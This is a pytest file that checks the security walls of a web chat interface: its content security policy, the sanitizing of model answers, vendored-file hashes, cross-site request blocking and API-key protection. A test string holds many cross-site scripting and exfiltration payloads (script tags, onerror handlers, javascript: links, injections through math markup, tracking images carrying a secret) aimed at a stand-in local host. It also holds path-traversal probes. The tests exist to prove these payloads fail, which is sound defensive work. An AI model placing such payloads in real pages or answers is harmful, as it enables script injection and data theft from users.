"""The web chat's walls: the policy, the vendored files, and answers that want to run or load."""

from __future__ import annotations

import hashlib
import json
import re
from typing import Any

import pytest
from browser import Chat, Tab, browser, chat, context, running_chat, says, tab
from fastapi.testclient import TestClient
from playwright.sync_api import BrowserContext

from dsv4.server import create_app
from dsv4.server.backend import ScriptedBackend
from dsv4.server.page import FILES

__all__ = ["browser", "chat", "context", "running_chat", "tab"]  # fixtures

VENDOR = FILES / "vendor"
HOSTILE = """
<script>window.hacked = 1</script>
<img src="http://127.0.0.1:9/leak.png" onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><use href="http://127.0.0.1:9/leak.svg#a"/></svg>
<iframe src="http://127.0.0.1:9/leak.html"></iframe>
<style>@import "http://127.0.0.1:9/a.css";</style>
<link rel="prefetch" href="http://127.0.0.1:9/leak"><base href="http://127.0.0.1:9/">
<a href="javascript:window.hacked=4">a</a> 
<form action="http://127.0.0.1:9/"><input autofocus></form>

![tracked](http://127.0.0.1:9/leak.png?secret=1) ![inline](data:image/svg+xml,%3Csvg%3E)
[run](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>)
[out](http://127.0.0.1:9/leak?q=1) <http://127.0.0.1:9/auto> http://127.0.0.1:9/bare
[mixed](JaVaScRiPt:window.hacked=7) [ref][1] ![ref image][1]

[1]: http://127.0.0.1:9/ref 'a" onmouseover="window.hacked=8'

$\\href{javascript:window.hacked=9}{x}$ $\\includegraphics{http://127.0.0.1:9/leak.png}$
$\\htmlStyle{background:url(http://127.0.0.1:9/leak)}{y}$
$\\text{</span><img src=x onerror=alert(1)>}$
$$\\text{" style="background:url(http://127.0.0.1:9/leak)}$$

```html" onmouseover="window.hacked=10
</code></pre><script>window.hacked = 11</script><img src="http://127.0.0.1:9/leak.png">
```
| <img src=x onerror="window.hacked=12"> | b |
|---|---|
| `<script>` | &lt;script&gt;window.hacked=13&lt;/script&gt; |
"""


@pytest.mark.slow
def test_a_hostile_answer_neither_runs_nor_loads_anything(tab: Tab) -> None:
    tab.chat.model.script = f"<img src=x onerror=alert(1)> $\\url{{javascript:1}}$</think>{HOSTILE}"
    page = tab.open().page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.send(HOSTILE)
    tab.finished()
    page.locator("details.reasoning summary").click()
    page.locator(".body > .prose .katex").first.wait_for()
    kinds = "script, img, iframe, object, embed, style, link, base, form, input, use, a, video"
    assert page.locator("#thread").locator(kinds).count() == 0
    attributes = page.evaluate(
        "[...document.querySelectorAll('#thread *')].flatMap(e => e.getAttributeNames())"
    )
    assert not {a for a in attributes if a.startswith("on") or a in ("src", "href", "srcdoc")}
    assert page.locator("#thread [style*=url]").count() == 0
    page.locator(".image-name").first.hover()
    page.mouse.wheel(0, 3000)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None and dialogs == []
    assert tab.strangers() == []


@pytest.mark.slow
def test_a_link_shows_where_it_leads_before_anything_is_opened(tab: Tab) -> None:
    tab.chat.model.script = says("[Our bank](http://127.0.0.1:9/evil?x=1)")
    page = tab.open().page
    tab.send("Where?")
    tab.finished()
    page.get_by_role("button", name="Our bank").click()
    dialog = page.get_by_role("dialog", name="Open this link?")
    assert "127.0.0.1:9" in dialog.inner_text()
    assert dialog.locator("code").inner_text() == "http://127.0.0.1:9/evil?x=1"
    out = dialog.get_by_role("link", name="Open in a new tab")
    assert out.get_attribute("rel") == "noopener noreferrer nofollow"
    page.keyboard.press("Escape")
    dialog.wait_for(state="detached")
    assert page.evaluate("document.activeElement.textContent") == "Our bank"
    assert tab.strangers() == []


@pytest.mark.slow
def test_the_policy_alone_would_hold(context: BrowserContext, chat: Chat) -> None:
    """Even if Markdown and sanitizer let everything through, the browser would not follow."""
    page = Tab(context.new_page(), chat).open().page
    blocked = page.evaluate(
        """async () => {
          const blocked = [];
          addEventListener("securitypolicyviolation", (e) => blocked.push(e.effectiveDirective));
          const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
          add("img", { src: "http://127.0.0.1:9/a.png" });
          add("link", { rel: "stylesheet", href: "http://127.0.0.1:9/a.css" });
          add("iframe", { src: "http://127.0.0.1:9/" });
          await fetch("http://127.0.0.1:9/").catch(() => {});
          const style = document.createElement("p");
          style.setAttribute("style", "color: red");
          for (const run of [
            () => { document.body.innerHTML += "<b>x</b>"; },
            () => { document.createElement("script").text = "window.hacked = 1"; },
            () => setTimeout("window.hacked = 2"),
          ]) try { run(); } catch {}
          await new Promise((done) => setTimeout(done, 200));
          return blocked;
        }"""  # noqa: E501
    )
    expected = {"img-src", "style-src-elem", "frame-src", "connect-src", "style-src-attr"}
    assert {*expected, "require-trusted-types-for"} <= set(blocked)
    assert page.evaluate("window.hacked") is None


@pytest.fixture(scope="module")
def client() -> TestClient:
    return TestClient(create_app(ScriptedBackend([])), base_url="http://127.0.0.1")


def test_every_file_of_the_page_carries_the_policy(client: TestClient) -> None:
    paths = ["/", *(f"/web/{p.relative_to(FILES)}" for p in FILES.rglob("*.*") if p.is_file())]
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200, path
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "no-referrer"
    for outside in ("/web/../app.py", "/web/%2e%2e/app.py", "/web/nothing.js", "/web/"):
        assert client.get(outside).status_code == 404, outside


def test_our_own_files_need_no_exception_from_the_policy() -> None:
    page = (FILES / "index.html").read_text()
    assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\sstyle=|\son\w+=|javascript:", page)
    for path in FILES.glob("*.js"):
        text = path.read_text()
        assert not re.search(r"innerHTML\s*\+?=|outerHTML\s*=|\beval\(|new Function", text), path
        assert not re.search(r"https?://(?!www\.w3\.org)", text), path


def test_vendored_files_are_those_of_the_manifest() -> None:
    packages: list[dict[str, Any]] = json.loads((VENDOR / "manifest.json").read_text())
    listed = {name: file for p in packages for name, file in p["files"].items()}
    there = {str(p.relative_to(VENDOR)) for p in VENDOR.rglob("*") if p.is_file()}
    assert there == {"manifest.json", *listed}
    for name, file in listed.items():
        assert hashlib.sha256((VENDOR / name).read_bytes()).hexdigest() == file["sha256"], name
    for package in packages:
        assert re.fullmatch(r"\d+\.\d+\.\d+", package["version"])
        assert package["integrity"].startswith("sha512-") and package["licence"]
        assert any("LICENSE" in name for name in package["files"]), package["package"]


def test_the_page_is_small() -> None:
    sizes = {p: p.stat().st_size for p in VENDOR.rglob("*") if p.is_file()}
    assert max(sizes.values()) < 500_000 and sum(sizes.values()) < 1_200_000
    assert {p.suffix for p in (VENDOR / "katex" / "fonts").iterdir()} == {".woff2"}


def test_the_page_knows_the_prices_of_its_two_choices(client: TestClient) -> None:
    assert client.get("/web/about").json()["prices"] == {
        "deepseek-v4-flash": {"hit": 0.028, "miss": 0.14, "output": 0.28},
        "deepseek-v4-pro": {"hit": 0.145, "miss": 1.74, "output": 3.48},
    }


def test_other_sites_get_nothing_of_the_page(client: TestClient) -> None:
    for site in ("cross-site", "same-site"):
        for method, path in (
            ("GET", "/web/conversations"),
            ("POST", "/web/tokens"),
            ("DELETE", "/web/conversations/x"),
        ):
            answer = client.request(method, path, headers={"sec-fetch-site": site})
            assert answer.status_code == 403, (site, path)
    assert client.get("/web/conversations", headers={"sec-fetch-site": "same-origin"}).is_success


def test_a_key_guards_the_conversations_and_not_the_page() -> None:
    client = TestClient(create_app(ScriptedBackend([]), api_key="right"))
    assert client.head("/").is_success
    assert client.get("/").is_success and client.get("/web/app.js").is_success
    assert client.get("/web/about").json()["keys"] is True
    assert client.get("/web/conversations").status_code == 401
    assert client.post("/web/tokens", json={"text": "x"}).status_code == 401
    key = {"Authorization": "Bearer right"}
    assert client.get("/web/conversations", headers=key).json() == {
        "conversations": [],
        "next": None,
    }
